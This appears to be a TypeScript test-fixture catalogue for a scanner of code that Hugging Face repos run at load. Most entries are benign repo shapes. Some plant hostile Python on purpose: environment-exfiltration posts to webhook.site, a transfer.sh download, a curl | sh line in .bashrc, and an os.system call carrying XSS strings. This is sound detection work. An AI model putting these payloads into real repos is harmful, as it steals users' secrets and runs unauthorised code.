import type { FixtureFile, FixtureRepo } from "./catalogue-types";
import { PAYLOADS, injectionOf, type Placement } from "../fixtures/python/payloads";
import {
  configurationFile,
  gradioApp,
  JINA_CUSTOM_ST,
  JINA_EMBEDDING,
  JINA_FILES,
  jinaModeling,
  loadingScript,
  modelingOf,
  NAVIT_SIGLIP,
  NOMIC_CONFIGURATION,
  nomicBertModeling,
  RESAMPLER,
  tokenizationFile,
  TRAIN_SCRIPT,
} from "../fixtures/python/shapes";

/**
 * Fixture repos for issue 25, the Python a repo's loading runs: popular custom-code shapes that stay
 * `warn` (Phi-3, DeepSeek-V3 with its inference scripts, InternLM2 with its tokenizers, MiniCPM-V
 * importing its resampler, nomic-bert and Jina whose code lives in another repo), one repo per
 * behaviour class with the payload hidden in a Phi-3-shaped file, a cross-repo auto_map whose other
 * repo carries the payload, a dataset loading script, a Space that sends its environment to a webhook,
 * a model with only a training script (`info`), a loaded file that cannot be read, and hostile text.
 */
const OLD = "2024-05-02T10:00:00.000Z";
const verifiedOrg = (name: string) => ({ name, kind: "org" as const, isVerified: true, fullname: name, followers: 9000 });
const user = (name: string) => ({ name, kind: "user" as const, createdAt: "2022-03-01T00:00:00.000Z", followers: 3 });
const gitattributes: FixtureFile = { path: ".gitattributes", size: 1519, lastCommit: { title: "initial commit", date: OLD } };
const readme: FixtureFile = { path: "README.md", size: 2400, lastCommit: { title: "Update README.md", date: OLD } };
const config: FixtureFile = { path: "config.json", size: 900, lastCommit: { title: "Upload config", date: OLD } };
const safetensors: FixtureFile = { path: "model.safetensors", size: 7_642_181_880, lfs: true, scan: "safe", lastCommit: { title: "Upload model", date: OLD } };
const py = (path: string, text: string, title = "Upload code"): FixtureFile => ({ path, size: new TextEncoder().encode(text).length, text, lastCommit: { title, date: OLD } });

const PHI_AUTO_MAP = { AutoConfig: "configuration_phi3.Phi3Config", AutoModelForCausalLM: "modeling_phi3.Phi3ForCausalLM" };
const phiConfig = py("configuration_phi3.py", configurationFile("Phi3", "phi3", "Microsoft"));

/** A Phi-3-shaped repo whose modeling file hides one payload. */
function payloadRepo(kind: (typeof PAYLOADS)[number]["kind"], placement: Placement, story: string): FixtureRepo {
  const payload = PAYLOADS.find((candidate) => candidate.kind === kind);
  if (!payload) throw new Error(`no payload ${kind}`);
  return {
    type: "model",
    id: `py-payloads/phi3-${kind}`,
    story,
    author: user("py-payloads"),
    tags: ["transformers", "safetensors", "phi3", "custom_code"],
    config: { architectures: ["Phi3ForCausalLM"], model_type: "phi3", auto_map: PHI_AUTO_MAP },
    files: [gitattributes, readme, config, safetensors, phiConfig, py("modeling_phi3.py", modelingOf("phi3", injectionOf(payload, placement)))],
    expect: { level: "danger", findings: ["remote-code", "unverified-author"] },
  };
}

export const PYTHON_REPOS: FixtureRepo[] = [
  {
    type: "model",
    id: "shapes-verified/Phi-3-mini-4k-instruct",
    story: "Phi-3's shape: configuration_phi3.py and a 40 KB modeling_phi3.py with optional flash-attention imports, env flags and gradient checkpointing. Loading runs its code (warn); nothing in it is alarming.",
    author: verifiedOrg("shapes-verified"),
    tags: ["transformers", "safetensors", "phi3", "text-generation", "conversational", "custom_code"],
    config: { architectures: ["Phi3ForCausalLM"], model_type: "phi3", auto_map: PHI_AUTO_MAP },
    files: [gitattributes, readme, config, safetensors, phiConfig, py("modeling_phi3.py", modelingOf("phi3"))],
    expect: { level: "warn", findings: ["remote-code"] },
    demo: true,
  },
  {
    type: "model",
    id: "shapes-verified/DeepSeek-V3",
    story: "DeepSeek-V3's shape: a mixture-of-experts modeling file, and inference/ scripts that nothing loads (info beside the warn).",
    author: verifiedOrg("shapes-verified"),
    tags: ["transformers", "safetensors", "deepseek_v3", "custom_code", "fp8"],
    config: { architectures: ["DeepseekV3ForCausalLM"], model_type: "deepseek_v3", auto_map: { AutoConfig: "configuration_deepseek.DeepseekV3Config", AutoModel: "modeling_deepseek.DeepseekV3Model", AutoModelForCausalLM: "modeling_deepseek.DeepseekV3ForCausalLM" } },
    files: [
      gitattributes,
      readme,
      config,
      safetensors,
      py("configuration_deepseek.py", configurationFile("DeepseekV3", "deepseek", "DeepSeek-AI", { n_routed_experts: 256, num_experts_per_tok: 8, routed_scaling_factor: 2.5, n_group: 8, topk_group: 4 })),
      py("modeling_deepseek.py", modelingOf("deepseek")),
      py("inference/generate.py", TRAIN_SCRIPT),
      py("inference/convert.py", "import os\nimport shutil\nfrom argparse import ArgumentParser\n\nimport torch\nfrom safetensors.torch import safe_open, save_file\n\n\ndef main(hf_ckpt_path, save_path):\n    os.makedirs(save_path, exist_ok=True)\n    for name in os.listdir(hf_ckpt_path):\n        if name.endswith('.json'):\n            shutil.copyfile(os.path.join(hf_ckpt_path, name), os.path.join(save_path, name))\n"),
    ],
    expect: { level: "warn", findings: ["remote-code"] },
  },
  {
    type: "model",
    id: "shapes-verified/internlm2-chat-7b",
    story: "InternLM2's shape: auto_map for the model, and sentencepiece tokenizers at the root that its tokenizer_config.json loads.",
    author: verifiedOrg("shapes-verified"),
    tags: ["transformers", "safetensors", "internlm2", "custom_code"],
    config: { architectures: ["InternLM2ForCausalLM"], model_type: "internlm2", auto_map: { AutoConfig: "configuration_internlm2.InternLM2Config", AutoModelForCausalLM: "modeling_internlm2.InternLM2ForCausalLM" } },
    files: [
      gitattributes,
      readme,
      config,
      safetensors,
      py("configuration_internlm2.py", configurationFile("InternLM2", "internlm2", "InternLM")),
      py("modeling_internlm2.py", modelingOf("internlm2")),
      py("tokenization_internlm2.py", tokenizationFile("InternLM2", "InternLM")),
      py("tokenization_internlm2_fast.py", tokenizationFile("InternLM2Fast", "InternLM")),
    ],
    expect: { level: "warn", findings: ["remote-code"] },
  },
  {
    type: "model",
    id: "shapes-verified/MiniCPM-V-2_6",
    story: "MiniCPM-V's shape: the modeling file imports a resampler and a vision tower from the repo; all of it runs at load, none of it is alarming.",
    author: verifiedOrg("shapes-verified"),
    tags: ["transformers", "safetensors", "minicpmv", "custom_code", "multimodal"],
    config: { architectures: ["MiniCPMV"], model_type: "minicpmv", auto_map: { AutoConfig: "configuration_minicpm.MiniCPMVConfig", AutoModel: "modeling_minicpm.MiniCPMVModel" } },
    files: [gitattributes, readme, config, safetensors, py("configuration_minicpm.py", configurationFile("MiniCPMV", "minicpm", "OpenBMB")), py("modeling_minicpm.py", modelingOf("minicpm")), py("resampler.py", RESAMPLER), py("modeling_navit_siglip.py", NAVIT_SIGLIP)],
    expect: { level: "warn", findings: ["remote-code"] },
  },
  {
    type: "model",
    id: "shapes-verified/nomic-bert-2048",
    story: "nomic-bert's code repo: the embedding models name its modules in their auto_map.",
    author: verifiedOrg("shapes-verified"),
    tags: ["transformers", "nomic_bert", "custom_code"],
    config: { architectures: ["NomicBertForPreTraining"], model_type: "nomic_bert", auto_map: { AutoConfig: "configuration_hf_nomic_bert.NomicBertConfig", AutoModel: "modeling_hf_nomic_bert.NomicBertModel" } },
    files: [gitattributes, readme, config, safetensors, py("configuration_hf_nomic_bert.py", NOMIC_CONFIGURATION), py("modeling_hf_nomic_bert.py", nomicBertModeling())],
    expect: { level: "warn", findings: ["remote-code"] },
  },
  {
    type: "model",
    id: "shapes-verified/nomic-embed-text-v1",
    story: "nomic-embed's shape: config.json's auto_map names shapes-verified/nomic-bert-2048--…: the code is read in that repo, at its own commit.",
    author: verifiedOrg("shapes-verified"),
    tags: ["sentence-transformers", "safetensors", "nomic_bert", "custom_code"],
    config: { architectures: ["NomicBertModel"], model_type: "nomic_bert", auto_map: { AutoConfig: "shapes-verified/nomic-bert-2048--configuration_hf_nomic_bert.NomicBertConfig", AutoModel: "shapes-verified/nomic-bert-2048--modeling_hf_nomic_bert.NomicBertModel" } },
    files: [gitattributes, readme, config, safetensors],
    expect: { level: "warn", findings: ["remote-code"] },
  },
  {
    type: "model",
    id: "shapes-verified/xlm-roberta-flash-implementation",
    story: "Jina's code repo: a package of small modules importing one another relatively.",
    author: verifiedOrg("shapes-verified"),
    tags: ["transformers", "xlm-roberta", "custom_code"],
    config: { architectures: ["XLMRobertaModel"], model_type: "xlm-roberta", auto_map: { AutoConfig: "configuration_xlm_roberta.XLMRobertaFlashConfig", AutoModel: "modeling_xlm_roberta.XLMRobertaModel" } },
    files: [gitattributes, readme, config, py("modeling_xlm_roberta.py", jinaModeling()), py("embedding.py", JINA_EMBEDDING), ...Object.entries(JINA_FILES).map(([path, text]) => py(path, text))],
    expect: { level: "warn", findings: ["remote-code"] },
  },
  {
    type: "model",
    id: "shapes-verified/jina-embeddings-v3",
    story: "Jina embeddings' shape: code in shapes-verified/xlm-roberta-flash-implementation (ten modules), plus the repo's own custom_st.py for sentence-transformers.",
    author: verifiedOrg("shapes-verified"),
    tags: ["sentence-transformers", "safetensors", "xlm-roberta", "custom_code"],
    config: { architectures: ["XLMRobertaModel"], model_type: "xlm-roberta", auto_map: { AutoConfig: "shapes-verified/xlm-roberta-flash-implementation--configuration_xlm_roberta.XLMRobertaFlashConfig", AutoModel: "shapes-verified/xlm-roberta-flash-implementation--modeling_lora.XLMRobertaLoRA" } },
    files: [gitattributes, readme, config, safetensors, py("custom_st.py", JINA_CUSTOM_ST)],
    expect: { level: "warn", findings: ["remote-code"] },
  },
  payloadRepo("shell", "helper", "A Phi-3-shaped model whose post_init calls a helper that runs `whoami` through getattr(__import__('o'+'s'), ''.join(chr(c)…)): danger, the line named."),
  payloadRepo("exec-hidden", "module", "A Phi-3-shaped model that exec()s base64-decoded code at import: danger."),
  payloadRepo("download-exec", "init", "A Phi-3-shaped model whose __init__ downloads a binary from transfer.sh and makes it executable: danger."),
  payloadRepo("exfiltrate", "helper", "A Phi-3-shaped model whose post_init sends the whole environment to a raw IP through an aliased requests.post: danger."),
  payloadRepo("write-outside", "module", "A Phi-3-shaped model that appends a curl | sh line to ~/.bashrc at import: danger."),
  payloadRepo("install-packages", "init", "A Phi-3-shaped model whose __init__ pip-installs a package: danger."),
  {
    type: "model",
    id: "py-payloads/innocent-embedder",
    story: "A model repo with no Python at all, whose auto_map points at py-payloads/hidden-code--…: the code in that other repo sends the environment to a webhook when the model is built.",
    author: user("py-payloads"),
    tags: ["transformers", "safetensors", "custom_code"],
    config: { architectures: ["NomicBertModel"], model_type: "nomic_bert", auto_map: { AutoConfig: "py-payloads/hidden-code--configuration_hf_nomic_bert.NomicBertConfig", AutoModel: "py-payloads/hidden-code--modeling_hf_nomic_bert.NomicBertModel" } },
    files: [gitattributes, readme, config, safetensors],
    expect: { level: "danger", findings: ["remote-code", "unverified-author"] },
    demo: true,
  },
  {
    type: "model",
    id: "py-payloads/hidden-code",
    story: "The other repo of py-payloads/innocent-embedder: nomic-bert-shaped code whose __init__ posts os.environ to webhook.site.",
    author: user("py-payloads"),
    tags: ["transformers", "custom_code"],
    config: { architectures: ["NomicBertModel"], model_type: "nomic_bert", auto_map: { AutoConfig: "configuration_hf_nomic_bert.NomicBertConfig", AutoModel: "modeling_hf_nomic_bert.NomicBertModel" } },
    files: [
      gitattributes,
      config,
      py("configuration_hf_nomic_bert.py", NOMIC_CONFIGURATION),
      py("modeling_hf_nomic_bert.py", nomicBertModeling({ init: '        import requests\n        requests.post("https://webhook.site/5b1c", json=dict(os.environ), timeout=2)' })),
    ],
    expect: { level: "danger", findings: ["remote-code", "unverified-author"] },
  },
  {
    type: "dataset",
    id: "shapes-verified/squad_like",
    story: "A dataset loaded by its loading script squad_like.py (datasets' trust_remote_code): read, nothing alarming, still warn.",
    author: verifiedOrg("shapes-verified"),
    files: [gitattributes, readme, py("squad_like.py", loadingScript("squad_like"))],
    expect: { level: "warn", findings: ["remote-code"] },
  },
  {
    type: "space",
    id: "py-payloads/env-webhook-space",
    story: "A Gradio Space whose app.py posts os.environ to a webhook when it starts: whoever duplicates it hands over their secrets.",
    author: user("py-payloads"),
    sdk: "gradio",
    cardData: { title: "Sentiment", sdk: "gradio", sdk_version: "5.0.1", app_file: "app.py" },
    files: [gitattributes, { path: "README.md", size: 300 }, py("app.py", gradioApp('import requests\nrequests.post("https://webhook.site/0d9e", json=dict(os.environ), timeout=2)')), { path: "requirements.txt", size: 40 }],
    expect: { level: "danger", findings: ["remote-code", "unverified-author"] },
    demo: true,
  },
  {
    type: "model",
    id: "shapes-verified/gpt2-finetune-with-script",
    story: "A fine-tune that ships its train_script.py: transformers never runs it, so remote-code is info.",
    author: verifiedOrg("shapes-verified"),
    tags: ["transformers", "safetensors", "gpt2"],
    config: { architectures: ["GPT2LMHeadModel"], model_type: "gpt2" },
    files: [gitattributes, readme, config, safetensors, py("train_script.py", TRAIN_SCRIPT)],
    expect: { level: "info", findings: ["remote-code"] },
  },
  {
    type: "model",
    id: "shapes-verified/unreadable-code",
    story: "auto_map names modeling_packed.py, which is binary (NUL bytes): not read, said plainly, and the repo stays warn.",
    author: verifiedOrg("shapes-verified"),
    tags: ["transformers", "custom_code"],
    config: { architectures: ["PackedModel"], auto_map: { AutoModel: "modeling_packed.PackedModel" } },
    files: [gitattributes, config, safetensors, py("modeling_packed.py", `import torch\n${"\u0000".repeat(64)}\nclass PackedModel: pass\n`)],
    expect: { level: "warn", findings: ["remote-code"] },
  },
  {
    type: "model",
    id: "hostile-strings/python-probe",
    story: "A modeling file whose strings and names carry markup and bidi controls, and which runs one of them: the panel shows them as text.",
    author: user("hostile-strings"),
    tags: ["transformers", "custom_code"],
    config: { architectures: ["ProbeModel"], auto_map: { AutoModel: "modeling_probe.ProbeModel" } },
    files: [
      gitattributes,
      config,
      safetensors,
      py("modeling_probe.py", `import os\n\n\nclass ProbeModel:\n    def __init__(self):\n        \u202erun\u202c = os.system\n        \u202erun\u202c('echo "<img src=x onerror=alert(1)>" <script>alert(2)</script>')\n`),
    ],
    expect: { level: "danger", findings: ["remote-code", "unverified-author"] },
  },
];
